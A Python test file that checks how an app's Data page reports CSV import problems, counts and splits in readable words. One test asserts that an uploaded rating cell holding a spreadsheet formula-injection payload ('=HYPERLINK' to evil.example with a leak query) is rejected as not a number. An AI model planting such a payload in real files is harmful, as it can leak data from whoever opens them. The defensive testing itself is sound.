"""The Data page shows what a person reads: the user's own file name, every import problem in
full, counts and splits in words (no dicts, no "None", no raw status names); and its column
mapping can name a group column. Headless AppTest against a real SQLite store."""

from __future__ import annotations

import re
from collections import defaultdict
from pathlib import Path

from sqlalchemy import select
from streamlit.testing.v1 import AppTest

from apptest_login import app_as
from judgeeye.display import escape_markdown
from judgeeye.store import Item, Project, session_scope
from judgeeye.uploads import save_upload

PAGE = "judgeeye_app/views/data.py"
BAD = Path(__file__).parent / "data" / "bad"
INTERNALS = re.compile(r"None|\{'|': |\bnan\b|dropped_disagreement|no_rating|external_id")


def _page() -> AppTest:
    return app_as("admin", page=PAGE)


def _texts(at: AppTest) -> list[str]:
    """Everything the page says in words (markdown, messages, captions, widget labels/options)."""
    out = [e.value for kind in ("markdown", "caption", "error", "success", "info", "warning")
           for e in getattr(at, kind)]
    out += [str(o) for box in at.selectbox for o in box.options]
    return out


def _cells(at: AppTest) -> list[str]:
    return [str(v) for frame in at.dataframe for v in [*frame.value.columns, *frame.value.to_numpy().ravel()]]


def _map(at: AppTest, texts: list[str], raters: list[str], group: str | None = None) -> None:
    at.radio(key="data_source").set_value("A file uploaded before").run()
    at.radio(key="data_kind").set_value("Map columns").run()
    at.selectbox(key="map_id").set_value("id").run()
    at.multiselect(key="map_text").set_value(texts).run()
    at.multiselect(key="map_raters").set_value(raters).run()
    if group is not None:
        at.selectbox(key="map_group").set_value(group).run()


def test_problems_name_the_users_file_and_read_in_full(store_url: str) -> None:
    """Before: the stored upload name (``1a2b3c4d-my_ratings_2_.csv``) and a table whose problem
    column cut long messages off."""
    data = (BAD / "formula_rating.csv").read_bytes()
    stored = save_upload("my ratings (2).csv", data)
    at = _page()
    _map(at, ["text"], ["rater1", "rater2"])
    assert not at.exception
    box = at.selectbox(key="data_uploaded")
    assert "my ratings (2).csv" in box.options and stored.name not in box.options
    message = at.error[0].value
    assert escape_markdown("my ratings (2).csv") in message and "nothing was written" in message
    # the whole message, with its row and field, as text (not a cell of a narrow table)
    long = escape_markdown("rating '=HYPERLINK(\"http://evil.example/?leak...' is not a number")
    assert f"**row 3, field “rater2”:** {long}" in message, message
    assert not [f for f in at.dataframe if "problem" in f.value.columns]  # the Browse tab has one
    assert not [t for t in _texts(at) if stored.name in t or stored.name[:9] in t]


def test_import_reports_counts_and_splits_in_words(store_url: str, tmp_path: Path) -> None:
    """Before: "splits {'train': 4, 'validation': 1, 'test': 1}" and None in the tables."""
    rows = ["id,text,r1,r2,r3", "a,one,3,3,4", "b,two,1,5,3", "c,three,5,5,5", "d,four,2,2,2",
            "e,five,4,4,3", "f,six,1,1,2", "g,seven,3,,3"]
    save_upload("stories.csv", ("\n".join(rows) + "\n").encode())
    at = _page()
    _map(at, ["text"], ["r1", "r2", "r3"])
    assert not at.exception and not at.error, [e.value for e in at.error]
    preview = at.dataframe[0].value
    assert preview.loc[preview["id"] == "b", "status"].item() == "dropped: raters disagree"
    assert preview.loc[preview["id"] == "b", "gold"].item() == "—"
    assert preview.loc[preview["id"] == "g", "r2"].item() == "—"
    at.text_input(key="import_name").set_value("worded").run()
    at.button(key="import_go").click().run()
    assert not at.exception
    success = at.success[0].value
    assert "Imported **6** gold items" in success and "(1 dropped because the raters disagreed)" in success
    assert re.search(r"Splits: \d+ train, \d+ validation, \d+ test\.", success), success
    browse = [f.value for f in at.dataframe if "split" in f.value.columns and len(f.value) == 7]
    assert browse, "the new project's items are listed"
    assert browse[0].loc[browse[0]["id"] == "b", ["split", "gold", "status"]].values.tolist() == [
        ["—", "—", "dropped: raters disagree"]]
    leaks = [t for t in _texts(at) + _cells(at) if INTERNALS.search(t)]
    assert not leaks, leaks


def test_mapping_form_keeps_a_group_in_one_split(store_url: str) -> None:
    rows = ["id,doc,text,r1,r2"] + [f"x{k},doc{k % 5},text {k},{1 + k % 5},{1 + k % 5}" for k in range(40)]
    save_upload("grouped.csv", ("\n".join(rows) + "\n").encode())
    at = _page()
    _map(at, ["text"], ["r1", "r2"], group="doc")
    assert not at.exception and not at.error, [e.value for e in at.error]
    assert any("Splits keep each doc together" in c.value for c in at.caption)
    at.text_input(key="import_name").set_value("grouped").run()
    at.button(key="import_go").click().run()
    assert "Split by doc: 5 groups, each in one split." in at.success[0].value
    with session_scope() as s:
        project = s.scalar(select(Project).where(Project.name == "grouped"))
        items = s.scalars(select(Item).where(Item.project_id == project.id)).all()
    splits: dict[str, set[str]] = defaultdict(set)
    for item in items:
        splits[f"doc{int(item.external_id[1:]) % 5}"].add(item.split)
    assert len(items) == 40 and all(len(s) == 1 for s in splits.values())


def test_an_impossible_scale_is_a_sentence(store_url: str) -> None:
    save_upload("stories.csv", b"id,text,r1\na,one,3\n")
    at = _page()
    _map(at, ["text"], ["r1"])
    at.number_input(key="map_min").set_value(5).run()
    at.number_input(key="map_max").set_value(1).run()
    assert [e.value for e in at.error] == ["Scale min (5) must be below scale max (1)."]
